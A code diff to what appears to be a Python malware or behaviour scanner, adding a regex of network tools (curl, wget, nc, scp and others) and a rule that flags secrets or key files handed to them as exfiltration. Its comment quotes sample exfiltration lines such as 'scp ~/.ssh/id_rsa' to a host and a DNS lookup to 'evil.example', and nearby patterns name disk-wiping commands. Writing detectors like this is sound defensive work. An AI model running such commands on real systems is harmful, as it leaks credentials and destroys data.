@@ -64,6 +64,12 @@ WIPER = LazyPattern(
     r"\bformat\s+[a-z]:|\bmkfs(?:\.\w+)?\s+/dev/|\bdd\s+if=/dev/(?:zero|urandom)\s+of=/dev/",
     re.IGNORECASE,
 )
+# Commands that send what they are given to another host.
+NETWORK_TOOL = LazyPattern(
+    r"(?:^|[\s;&|/])(?:curl|wget|nc|ncat|netcat|nslookup|dig|host|ping|scp|sftp|rsync|ftp|"
+    r"tftp|ssh|telnet|socat)(?:\.exe)?\s",
+    re.IGNORECASE,
+)
 DOMAIN = LazyPattern(r"\.[a-z][a-z0-9-]*\.[a-z]{2,}", re.IGNORECASE)
 BUILD_TOOL = LazyPattern(
     r"^\s*(\S*/)?(cc|c\+\+|gcc|g\+\+|clang|clang\+\+|cl|icc|pkg-config|pkgconf|git|uname|"
@@ -155,6 +161,12 @@ def _process(event: Event, eager: bool) -> tuple[str, Severity]:  # noqa: PLR091
     shell = BARE_SHELL.fullmatch(event.text.removesuffix(" True").strip())
     if shell and (eager or event.callee == "pty.spawn"):
         return "shell-spawn", Severity.CRITICAL
+    sent = event.labels & {SECRET, HOSTINFO} or STOLEN_FILE.search(event.text)
+    if sent and eager and NETWORK_TOOL.search(event.text):
+        # Host data, a secret or a key file handed to a command that sends it away
+        # (``nslookup user.evil.example``, ``scp ~/.ssh/id_rsa h:``): exfiltration through a
+        # process instead of a socket (ADR 0076).
+        return "exfiltration", Severity.CRITICAL
     if DROPPER.search(event.text):
         # A URL or a shell word in a command is a download-and-run only when it runs early;
         # inside a function it is what installers and VCS helpers do (git clone https://…).
